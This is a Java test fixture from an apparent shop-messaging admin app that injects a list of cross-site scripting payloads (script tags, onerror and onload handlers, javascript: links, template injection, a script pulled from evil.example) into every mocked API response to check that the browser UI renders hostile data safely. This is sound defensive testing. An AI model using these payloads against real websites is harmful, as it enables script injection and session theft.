package app.tendero.browser;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * What doors could answer if everything in the world were called like an attack. In the templates
 * {@code @} stands for the words, all of them at once; in a list whose name ends in {@code *} each
 * of them has an entry of its own.
 */
final class HostileAnswers {

    static final List<String> CORPUS =
            List.of(
                    "<script>stolen()</script>",
                    "<img src=x onerror=stolen()>",
                    "<svg/onload=stolen()>",
                    "\"><script src=//evil.example/x.js></script>",
                    "' onmouseover='stolen()",
                    "</s-paragraph><s-button href=javascript:stolen()>press</s-button>",
                    "<iframe srcdoc='<script>parent.stolen()</script>'></iframe>",
                    "<math><mtext></mtext><style><img src=x onerror=stolen()></style></math>",
                    "<template><script>stolen()</script></template>",
                    "javascript:stolen()",
                    "data:text/html,<script>stolen()</script>",
                    "{{constructor.constructor('stolen()')()}}",
                    "${stolen()}",
                    "<!--><img src=x onerror=stolen()>-->",
                    "&lt;script&gt;stolen()&lt;/script&gt;",
                    "\u202Egnp.exe\u2066<b>",
                    "]]><x xmlns='urn:x' onload=stolen()>",
                    "</textarea></title></style><img src=x onerror=stolen()>",
                    "<input autofocus onfocus=stolen()>",
                    "<a href=\"java\tscript:stolen()\">here</a>");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ALL = String.join(" ", CORPUS);

    private HostileAnswers() {}

    private static final String SESSION =
            """
            {"user": "@", "role": "owner", "version": "@", "locale": "@",
             "store": {"id": 1, "domain": "@", "name": "@"}}""";

    private static final String HOME =
            """
            {"currency": "@", "message_price": "@",
             "launch": {"number": "@", "link": "@", "test": "failed", "test_error": "@",
              "live_since": null, "steps": [{"id": "connect", "done": false},
               {"id": "check", "done": false}, {"id": "wording", "done": false},
               {"id": "test", "done": false}, {"id": "live", "done": false}]},
             "problems*": [{"id": "@", "tone": "critical", "title": "@", "detail": "@", "href": "@"}],
             "today": {"conversations": 1, "answers": 1, "carts": 1, "checkouts": 1, "orders": 1,
              "billable": 1, "revenue*": [{"amount": "@", "currency": "@"}]}}""";

    private static final String NUMBERS =
            """
            {"callback_url": "@", "embedded_signup": null, "signup": null,
             "numbers*": [{"phone_number_id": "1", "display_phone_number": "@", "paused": false}]}""";

    private static final String SIGN_UP =
            """
            {"callback_url": "@", "numbers": [], "embedded_signup": {"app_id": "@", "sdk": "@"},
             "signup": {"steps*": [{"name": "@", "state": "failed", "says": "@", "to_do": "@"}]}}""";

    private static final String SETTINGS =
            """
            {"version": 1, "name": "@", "past": [], "welcome_message": {"en": "@"},
             "closed_message": {"en": "@"}, "languages": ["en"],
             "collections": ["@"], "sold_out": "marked", "contact": "@", "timezone": "@",
             "max_quantity": 1, "cart_life_days": 1, "checkout": "permalink",
             "person_hours": 4, "language_model": "off", "language_model_calls": 1,
             "hours": {"week": {"monday": [{"from": "@", "to": "@"}]}, "holidays": ["@"]},
             "wording": {"en": {"cart.empty": "@"}}}""";

    private static final String PREVIEW =
            """
            {"direction": "ltr", "language": "en", "screens": {"welcome": {"type": "interactive",
             "interactive": {"header": {"type": "text", "text": "@"}, "body": {"text": "@"},
              "footer": {"text": "@"}, "action": {"button": "@", "buttons": [
               {"reply": {"title": "@"}}], "sections*": [{"title": "@", "rows": [
               {"title": "@", "description": "@"}]}]}}}}}""";

    /** Of the admin page, by what their addresses end in or hold. */
    static Map<String, String> admin() {
        var doors = new LinkedHashMap<String, String>();
        doors.put("**/admin/api/session", SESSION);
        doors.put("**/admin/api/home", HOME);
        doors.put("**/admin/api/settings", SETTINGS);
        doors.put("**/admin/api/preview", PREVIEW);
        doors.putAll(whatsapp());
        doors.putAll(conversation());
        doors.putAll(people());
        doors.putAll(activity());
        doors.putAll(inbox());
        return planted(doors);
    }

    private static Map<String, String> whatsapp() {
        return Map.of(
                "**/admin/api/whatsapp",
                NUMBERS,
                "**/numbers/1/link*",
                "{\"url\": \"@\", \"qr_size\": 21, \"qr_path\": \"@\"}",
                "**/admin/api/check",
                """
                {"checks*": [{"name": "@", "state": "failed", "says": "@", "to_do": "@"}]}""",
                "**/numbers/1/profile",
                """
                {"about": "@", "description": "@", "address": "@", "email": "@",
                 "websites": ["@"], "vertical": "@"}""");
    }

    private static Map<String, String> conversation() {
        return Map.of(
                "**/admin/api/collections",
                "{\"collections*\": [{\"id\": \"@\", \"title\": \"@\", \"products\": 3}]}",
                "**/admin/api/wording*",
                """
                {"texts*": [{"key": "@", "topic": "@", "place": "@", "text": "@", "limit": 90,
                 "placeholders": ["@"]}]}""");
    }

    private static final String CARD =
            """
            {"id": "1", "name": "@", "phone_number": "@", "state": "person", "reason": "@",
             "agent": {"user": "@", "name": "@", "you": false}, "unread": 3,
             "last_message": {"direction": "in", "type": "@", "text": "@", "state": "@",
              "at": "2026-11-21T10:00:00Z"}, "last_at": "2026-11-21T10:00:00Z"}""";

    /** What shoppers write, and what the team has ready. */
    private static Map<String, String> inbox() {
        return Map.of(
                "**/admin/api/inbox?*",
                """
                {"counts": {"waiting": 1, "mine": 1, "unread": 1}, "standby": true,
                 "next_cursor": null, "conversations*": [%s]}"""
                        .formatted(CARD),
                "**/admin/api/inbox/counts",
                "{\"waiting\": 1, \"mine\": 1, \"unread\": 1}",
                "**/admin/api/inbox/replies",
                "{\"replies*\": [{\"id\": 1, \"title\": \"@\", \"body\": \"@\"}]}",
                "**/admin/api/inbox/conversations/1/*",
                "{}",
                "**/admin/api/inbox/conversations/1",
                """
                {"conversation": %s, "window": {"seconds_left": 3600}, "stopped": false,
                 "cart*": [{"title": "@", "quantity": 1, "total": {"amount": "@", "currency": "@"}}],
                 "orders*": [{"name": "@", "state": "@", "items": ["@"],
                  "total": {"amount": "@", "currency": "@"}}], "orders_known": true,
                 "looking": [{"user": "@", "name": "@", "typing": true}],
                 "team": [{"user": "@", "name": "@", "you": false}],
                 "tickets*": [{"name": "@", "state": "@", "opened": "2026-11-21T10:00:00Z"}],
                 "messages": {"next_cursor": null, "messages*": [{"id": "@", "direction": "in",
                  "type": "@", "text": "@", "state": "@", "timestamp": "2026-11-21T10:00:00Z",
                  "details": {"header": "@", "buttons": ["@"], "template": "@", "values": ["@"],
                   "label": "@"}}]}}"""
                        .formatted(CARD));
    }

    /** Shoppers, and the merchant's own. */
    private static Map<String, String> people() {
        return Map.of(
                "**/privacy/settings",
                "{\"retention_days\": 90, \"least\": 7, \"most\": 365, \"version\": 0}",
                "**/privacy/find",
                "{\"conversations\": 1, \"rows\": {\"@\": 2}}",
                "**/privacy/requests*",
                list(
                        "requests",
                        """
                        "kind": "@", "origin": "@", "state": "@", "received_at": "2026-11-21T10:00:00Z",
                        "due_at": "2026-12-21T10:00:00Z", "done_at": "2026-11-21T10:00:00Z",
                        "rows": {"@": 3}, "overdue": false"""),
                "**/admin/api/team",
                """
                {"version": 1, "team*": [{"user": "@", "name": "@", "role": "owner", "you": false,
                 "since": "2026-11-21T10:00:00Z"}]}""");
    }

    private static Map<String, String> activity() {
        return Map.of(
                "**/activity/problems",
                "{\"problems*\": [{\"tone\": \"@\", \"title\": \"@\", \"detail\": \"@\"}]}",
                "**/activity/messages*",
                list("items", "\"state\": \"@\", \"reason\": \"@\", \"conversation\": \"@\""),
                "**/activity/webhooks*",
                list(
                        "items",
                        "\"source\": \"@\", \"kind\": \"@\", \"state\": \"@\", \"outcome\": \"@\""),
                "**/activity/changes*",
                list(
                        "items",
                        """
                        "role": "@", "user": "@", "what": "@", "details": {"@": "@"}"""));
    }

    /** A sign-up that stopped on its way, in the place of the numbers. */
    static String signUp() {
        return planted(SIGN_UP);
    }

    /** A refusal in these words. */
    static String refusal() {
        return planted("{\"title\": \"@\", \"detail\": \"@\"}");
    }

    /** Of the sandbox's chat page. */
    static Map<String, String> chat() {
        var doors = new LinkedHashMap<String, String>();
        doors.put(
                "**/chat/api/world",
                """
                {"stores": [{"id": "1", "name": "@", "number": "@", "shop": "linen-house"}],
                 "shoppers*": [{"id": "kerry", "name": "@", "language": "@", "phone": "@"}]}""");
        doors.put(
                "**/sandbox/shopify/*/state",
                """
                {"orders*": [{"id": 1, "name": "@", "currency": "@", "total": "@",
                  "standing": "paid"}]}""");
        doors.put("**/chat/api/trace*", "{\"turns*\": [{\"kind\": \"@\", \"outcome\": \"@\"}]}");
        doors.put(
                "**/chat/api/log*",
                """
                {"cost": {"purchase": "@", "total": "@"}, "events*": [
                 {"type": "in", "id": "in @", "at": 0,
                  "message": {"type": "text", "text": {"body": "@"}}},
                 {"type": "out", "id": "out @", "at": 0, "kind": "@",
                  "payload": {"type": "text", "text": {"body": "@"}}},
                 {"type": "out", "id": "image @", "at": 0, "kind": "@", "payload":
                  {"type": "image", "image": {"link": "@", "caption": "@"}}},
                 {"type": "out", "id": "link @", "at": 0, "kind": "@", "payload":
                  {"type": "interactive", "interactive": {"type": "cta_url", "body": {"text": "@"},
                   "action": {"parameters": {"display_text": "@", "url": "@"}}}}},
                 {"type": "out", "id": "list @", "at": 0, "kind": "@", "payload":
                  {"type": "interactive", "interactive": {"type": "list", "body": {"text": "@"},
                   "header": {"type": "text", "text": "@"}, "footer": {"text": "@"},
                   "action": {"button": "@", "sections": [{"title": "@", "rows": [
                    {"id": "@", "title": "@", "description": "@"}]}]}}}},
                 {"type": "webhook", "at": 0, "what": "@", "status": 200, "millis": "@"},
                 {"type": "refused", "at": 0, "code": "@", "details": "@"}]}""");
        return planted(doors);
    }

    private static String list(String name, String entry) {
        return """
               {"total": 1, "next_cursor": null, "%s*": [
                {"id": 1, "at": "2026-11-21T10:00:00Z", %s}]}"""
                .formatted(name, entry);
    }

    private static Map<String, String> planted(Map<String, String> doors) {
        var all = new LinkedHashMap<String, String>();
        doors.forEach((door, template) -> all.put(door, planted(template)));
        return all;
    }

    private static String planted(String template) {
        try {
            return planted(JSON.readTree(template), ALL).toString();
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(template, e);
        }
    }

    private static JsonNode planted(JsonNode node, String words) {
        return switch (node) {
            case ObjectNode object -> planted(object, words);
            case ArrayNode array -> {
                var all = JsonNodeFactory.instance.arrayNode();
                array.forEach(one -> all.add(planted(one, words)));
                yield all;
            }
            default ->
                    node.isTextual()
                            ? JsonNodeFactory.instance.textNode(node.asText().replace("@", words))
                            : node;
        };
    }

    private static ObjectNode planted(ObjectNode object, String words) {
        var all = JsonNodeFactory.instance.objectNode();
        object.properties()
                .forEach(
                        field -> {
                            var name = field.getKey();
                            if (name.endsWith("*")) {
                                all.set(name.replace("*", ""), each(field.getValue()));
                            } else {
                                all.set(name.replace("@", words), planted(field.getValue(), words));
                            }
                        });
        return all;
    }

    /** Every entry once for each of the words. */
    private static ArrayNode each(JsonNode entries) {
        var all = JsonNodeFactory.instance.arrayNode();
        CORPUS.forEach(words -> entries.forEach(entry -> all.add(planted(entry, words))));
        return all;
    }
}
